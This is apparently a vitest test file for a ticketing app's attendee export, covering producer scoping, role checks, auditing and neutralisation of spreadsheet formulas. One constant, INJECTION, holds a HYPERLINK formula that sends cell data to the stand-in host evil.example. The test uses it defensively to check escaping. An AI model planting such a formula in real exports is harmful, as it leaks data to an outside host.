import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEvent, createProducer } from '../../src/adapters/db/seed.ts';
import { logIn, sessionUser } from '../../src/app/auth.ts';
import { scanTicket } from '../../src/app/door.ts';
import { ATTENDEE_COLUMNS, exportAttendees, exportsOverview } from '../../src/app/exports.ts';
import { buyerOrder } from '../../src/app/orders.ts';
import type { SessionUser } from '../../src/app/ports.ts';
import { firstBrokenLink } from '../../src/domain/audit.ts';
import { producerWithEvent, type TestBoxOffice, testBoxOffice } from '../support/boxOffice.ts';
import { DB_KINDS, freshDatabase, type TestDatabase } from '../support/db.ts';
import { buy, type Producer, staff } from '../support/subjects.ts';

const titleOf = (p: Producer) => `Show ${p.slug.slice('show-'.length)}`;
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

function parseCsv(body: Buffer): string[][] {
  const text = body.toString('utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text.slice(1), { relax_column_count: false }) as string[][];
}

async function parseXlsx(body: Buffer): Promise<{ rows: string[][]; formulas: number }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = wb.getWorksheet('Attendees')!;
  const rows: string[][] = [];
  let formulas = 0;
  sheet.eachRow((row) => {
    const cells: string[] = [];
    for (let i = 1; i <= ATTENDEE_COLUMNS.length; i++) {
      const cell = row.getCell(i);
      if (cell.type === ExcelJS.ValueType.Formula) formulas++;
      cells.push(cell.value === null ? '' : String(cell.value));
    }
    rows.push(cells);
  });
  return { rows, formulas };
}

/** Issue 6 §5: the attendee export, scoped by producer, role-checked, neutralised, and audited. */
describe.each(DB_KINDS)('attendee export on %s', (kind) => {
  let tdb: TestDatabase;
  let box: TestBoxOffice;
  let a: Producer;
  let b: Producer;
  let owner: SessionUser;
  let secondEventId: string;
  const roleUser = async (p: Producer, role: string): Promise<SessionUser> => {
    const email = `${role}-${randomUUID()}@producer.test`;
    // A second producer record is not what we want: add a user with that role to producer p.
    await box.db.insertInto('users').values({
      id: randomUUID(), producerId: p.producerId, email, name: `The ${role}`, role, createdAt: box.clock.now(),
      passwordHash: await box.deps.passwords.hash('pw-role-user'),
    }).execute();
    const r = await logIn(box.deps, email, 'pw-role-user');
    if (!r.ok) throw new Error(r.message);
    return (await sessionUser(box.deps, r.value.token))!;
  };
  const exportsOf = async () => (await box.deps.store.audit.entries(0, 100_000)).filter((e) => e.action === 'attendees.export');

  beforeAll(async () => {
    tdb = await freshDatabase(kind);
    box = await testBoxOffice(tdb.db);
    a = await producerWithEvent(box, { name: 'Export Theatre' });
    b = await producerWithEvent(box, { name: 'Other Theatre' });
    await buy(box, a, { buyerName: 'Grace Hopper', buyerEmail: 'grace@example.org', marketingConsent: true }, 2);
    await buy(box, a, { buyerName: INJECTION, buyerEmail: 'mallory@example.org', marketingConsent: false }, 1);
    await buy(box, b, { buyerName: 'Bea Other', buyerEmail: 'bea@other.example', marketingConsent: true }, 3);
    // A second event of producer A, with one sale.
    const now = box.clock.now();
    const second = await createEvent(box.db, a.producerId, {
      slug: `second-${randomUUID().slice(0, 8)}`, title: 'Second Show', venue: { name: 'Hall Two', timeZone: 'America/New_York' },
      performances: [{ startsAt: new Date(now.getTime() + 40 * 86_400_000), ticketTypes: [{ name: 'Standing', priceMinor: 1000, currency: 'GBP', capacity: 50 }] }],
    }, now);
    secondEventId = second.eventId;
    await buy(box, { ...a, performance: second.performances[0]! }, { buyerName: 'Ken Thompson', buyerEmail: 'ken@example.org', marketingConsent: false }, 1);
    owner = await staff(box, a);
  });
  afterAll(async () => {
    await box?.close();
    await tdb?.drop();
  });

  it('exports exactly the producer\'s rows for one event as CSV, one per ticket, with consent and times in the venue\'s zone', async () => {
    const r = await exportAttendees(box.deps, owner, { eventId: a.event.eventId }, 'csv');
    if (!r.ok) throw new Error(r.message);
    expect(r.value.contentType).toBe('text/csv; charset=utf-8');
    expect(r.value.filename).toBe(`attendees-${a.slug}-2027-03-01.csv`);
    const [header, ...rows] = parseCsv(r.value.body);
    expect(header).toEqual([...ATTENDEE_COLUMNS]);
    expect(rows).toHaveLength(3);
    expect(r.value.rows).toBe(3);
    const grace = rows.filter((row) => row[2] === 'Grace Hopper');
    expect(grace).toHaveLength(2);
    // The performance is 30 days after 2027-03-01 12:00Z, in London (BST from 28 March).
    expect(grace[0]).toEqual([expect.stringMatching(/\S/), 'paid', 'Grace Hopper', 'grace@example.org', 'yes', titleOf(a),
      '2027-03-31 13:00 +01:00', 'Adult', 'valid', 'Grace Hopper', '', 'Online (test)', '']);
    const text = r.value.body.toString('utf8');
    expect(text).not.toContain('Bea Other');
    expect(text).not.toContain('bea@other.example');
    expect(text).not.toContain('Ken Thompson');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('neutralises a formula in a name: a quote in front in the CSV, plain text (never a formula) in the XLSX', async () => {
    const csv = await exportAttendees(box.deps, owner, { eventId: a.event.eventId }, 'csv');
    const xlsx = await exportAttendees(box.deps, owner, { eventId: a.event.eventId }, 'xlsx');
    if (!csv.ok || !xlsx.ok) throw new Error('export failed');
    const csvRow = parseCsv(csv.value.body).find((row) => row[3] === 'mallory@example.org')!;
    expect(csvRow[2]).toBe(`'${INJECTION}`);
    expect(csvRow[9]).toBe(`'${INJECTION}`);
    expect(parseCsv(csv.value.body).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const sheet = await parseXlsx(xlsx.value.body);
    expect(sheet.formulas).toBe(0);
    expect(sheet.rows.find((row) => row[3] === 'mallory@example.org')![9]).toBe(INJECTION);
  });

  it('exports all of the producer\'s events as XLSX, and the same rows as the CSV', async () => {
    const xlsx = await exportAttendees(box.deps, owner, 'all', 'xlsx');
    const csv = await exportAttendees(box.deps, owner, 'all', 'csv');
    if (!xlsx.ok || !csv.ok) throw new Error('export failed');
    expect(xlsx.value.filename).toBe('attendees-all-events-2027-03-01.xlsx');
    const { rows } = await parseXlsx(xlsx.value.body);
    expect(rows[0]).toEqual([...ATTENDEE_COLUMNS]);
    expect(rows).toHaveLength(1 + 4);
    expect(rows.slice(1).map((r) => r[2]).sort()).toEqual(['Grace Hopper', 'Grace Hopper', INJECTION, 'Ken Thompson'].sort());
    const ken = rows.find((r) => r[2] === 'Ken Thompson')!;
    expect(ken[5]).toBe('Second Show');
    expect(ken[6]).toBe('2027-04-10 08:00 -04:00');
    expect(rows.flat()).not.toContain('Bea Other');
    // The same cells as the CSV, but for the quote the CSV puts before a formula.
    expect(parseCsv(csv.value.body).map((r) => r.map((c) => c.replace(/^'(?=[=+\-@])/, '')))).toEqual(rows);
  });

  it('shows the check-in time once the door has scanned the ticket', async () => {
    const order = (await box.deps.store.orders.listForProducer(a.producerId)).find((o) => o.buyerName === 'Ken Thompson')!;
    const view = await buyerOrder(box.deps, order.id, box.deps.keys.orderLinkToken(order.id));
    if (!view.ok) throw new Error(view.message);
    expect(await scanTicket(box.deps, owner, { code: view.value.tickets[0]!.code, performanceId: order.performanceId })).toMatchObject({ kind: 'valid' });
    const r = await exportAttendees(box.deps, owner, { eventId: secondEventId }, 'csv');
    if (!r.ok) throw new Error(r.message);
    const [, ken] = parseCsv(r.value.body);
    expect(ken![10]).toBe('2027-03-01 07:00 -05:00');
  });

  it('answers "not found" for another producer\'s event and for an unknown one, and audits nothing then', async () => {
    const before = (await exportsOf()).length;
    expect(await exportAttendees(box.deps, owner, { eventId: b.event.eventId }, 'csv')).toMatchObject({ ok: false, code: 'not_found' });
    expect(await exportAttendees(box.deps, owner, { eventId: randomUUID() }, 'xlsx')).toMatchObject({ ok: false, code: 'not_found' });
    expect((await exportsOf()).length).toBe(before);
  });

  it.each(['door', 'viewer'])('refuses the %s role, and audits nothing', async (role) => {
    const user = await roleUser(a, role);
    const before = (await exportsOf()).length;
    expect(await exportAttendees(box.deps, user, 'all', 'csv')).toMatchObject({ ok: false, code: 'forbidden' });
    expect(await exportAttendees(box.deps, user, { eventId: a.event.eventId }, 'xlsx')).toMatchObject({ ok: false, code: 'forbidden' });
    expect(await exportsOverview(box.deps, user)).toMatchObject({ ok: false, code: 'forbidden' });
    expect((await exportsOf()).length).toBe(before);
  });

  it.each(['admin', 'box_office'])('lets the %s role export', async (role) => {
    const user = await roleUser(a, role);
    expect(await exportAttendees(box.deps, user, 'all', 'csv')).toMatchObject({ ok: true, value: { rows: 4 } });
  });

  it('writes exactly one audit entry per export, with who, what and how many, no personal data, and the chain holds', async () => {
    const before = await exportsOf();
    const r = await exportAttendees(box.deps, owner, { eventId: a.event.eventId }, 'xlsx');
    const all = await exportAttendees(box.deps, owner, 'all', 'csv');
    if (!r.ok || !all.ok) throw new Error('export failed');
    const after = await exportsOf();
    expect(after).toHaveLength(before.length + 2);
    const [one, two] = after.slice(-2);
    expect(one).toMatchObject({
      actorKind: 'producer_user', actorId: owner.userId, producerId: a.producerId, subject: `event:${a.event.eventId}`, at: box.clock.now(),
    });
    expect(JSON.parse(one!.detail)).toEqual({ event: a.event.eventId, rows: 3, format: 'xlsx' });
    expect(two).toMatchObject({ subject: `producer:${a.producerId}` });
    expect(JSON.parse(two!.detail)).toEqual({ event: 'all', rows: 4, format: 'csv' });
    const entries = await box.deps.store.audit.entries(0, 100_000);
    const text = JSON.stringify(entries);
    for (const pii of ['Grace Hopper', 'grace@example.org', 'mallory@example.org', 'Ken Thompson', 'HYPERLINK']) expect(text).not.toContain(pii);
    expect(firstBrokenLink('genesis', entries)).toBeNull();
  });

  it('records the door\'s display of an attendee name as a door.scan entry naming the ticket, not the person', async () => {
    const scans = (await box.deps.store.audit.entries(0, 100_000)).filter((e) => e.action === 'door.scan');
    expect(scans).toHaveLength(1);
    expect(scans[0]).toMatchObject({ actorId: owner.userId, producerId: a.producerId, subject: expect.stringMatching(/^ticket:/) });
    expect(scans[0]!.detail).not.toContain('Ken');
  });

  it('lists the producer\'s events and its last exports (newest first, by name), and none of another producer\'s', async () => {
    const other = await staff(box, b);
    const mine = await exportAttendees(box.deps, other, 'all', 'csv');
    expect(mine).toMatchObject({ ok: true, value: { rows: 3 } });
    const overview = await exportsOverview(box.deps, owner, 3);
    if (!overview.ok) throw new Error(overview.message);
    expect(overview.value.events.map((e) => e.title).sort()).toEqual([titleOf(a), 'Second Show'].sort());
    expect(overview.value.recent).toHaveLength(3);
    expect(overview.value.recent[0]).toMatchObject({ userName: 'Owner', eventId: 'all', rows: 4, format: 'csv' });
    expect(overview.value.recent[1]).toMatchObject({ eventId: a.event.eventId, rows: 3, format: 'xlsx', event: { id: a.event.eventId } });
    const theirs = await exportsOverview(box.deps, other);
    if (!theirs.ok) throw new Error(theirs.message);
    expect(theirs.value.events.map((e) => e.id)).toEqual([b.event.eventId]);
    expect(theirs.value.recent).toHaveLength(1);
    expect(theirs.value.recent[0]).toMatchObject({ rows: 3 });
  });

  it('a producer with no events exports an empty list with its header row, still audited', async () => {
    const { userId } = await createProducer(box.db, box.deps.passwords, {
      name: 'Empty', slug: `empty-${randomUUID().slice(0, 8)}`, user: { email: `empty-${randomUUID()}@producer.test`, name: 'E', password: 'pw-empty-123' },
    }, box.clock.now());
    const user = (await box.db.selectFrom('users').where('id', '=', userId).select('email').executeTakeFirstOrThrow()).email;
    const r = await logIn(box.deps, user, 'pw-empty-123');
    if (!r.ok) throw new Error(r.message);
    const u = (await sessionUser(box.deps, r.value.token))!;
    const csv = await exportAttendees(box.deps, u, 'all', 'csv');
    if (!csv.ok) throw new Error(csv.message);
    expect(parseCsv(csv.value.body)).toEqual([[...ATTENDEE_COLUMNS]]);
    expect((await exportsOf()).at(-1)).toMatchObject({ actorId: u.userId, detail: JSON.stringify({ event: 'all', rows: 0, format: 'csv' }) });
  });
});
